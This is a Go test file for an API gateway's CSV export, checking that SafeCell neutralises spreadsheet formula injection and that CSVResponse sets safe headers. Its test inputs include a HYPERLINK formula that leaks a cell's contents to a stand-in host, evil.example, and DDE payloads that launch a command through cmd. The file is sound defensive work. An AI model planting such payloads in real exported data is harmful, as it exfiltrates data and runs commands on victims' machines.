package apigw

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

func TestSafeCell(t *testing.T) {
	cases := []struct{ in, want string }{
		// OWASP's list of characters that start a formula.
		{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"+15551234567", "'+15551234567"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		// Anything else is as given.
		{"", ""},
		{"browser-1234", "browser-1234"},
		{strings.Repeat("a", 64), strings.Repeat("a", 64)},
		{"2026-11-02T10:00:00Z", "2026-11-02T10:00:00Z"},
		{"a=b", "a=b"},
		{" =1+1", " =1+1"},
		{"'=1+1", "'=1+1"},
	}
	for _, c := range cases {
		if got := SafeCell(c.in); got != c.want {
			t.Errorf("SafeCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestCSVResponse(t *testing.T) {
	resp := CSVResponse("list.csv", [][]string{
		{"name", "phone"},
		{`=HYPERLINK("http://evil.example","x")`, "+15551234567"},
		{"Ada, \"the first\"", "-1"},
	})
	if resp.StatusCode != 200 || resp.Headers["Content-Type"] != "text/csv; charset=utf-8" ||
		resp.Headers["Content-Disposition"] != `attachment; filename="list.csv"` ||
		resp.Headers["Cache-Control"] != "no-store" || resp.Headers["X-Content-Type-Options"] != "nosniff" {
		t.Errorf("headers %v", resp.Headers)
	}
	rows, err := csv.NewReader(strings.NewReader(resp.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"name", "phone"},
		{`'=HYPERLINK("http://evil.example","x")`, "'+15551234567"},
		{"Ada, \"the first\"", "'-1"},
	}
	if !slices.EqualFunc(rows, want, slices.Equal) {
		t.Errorf("rows %q, want %q", rows, want)
	}
}
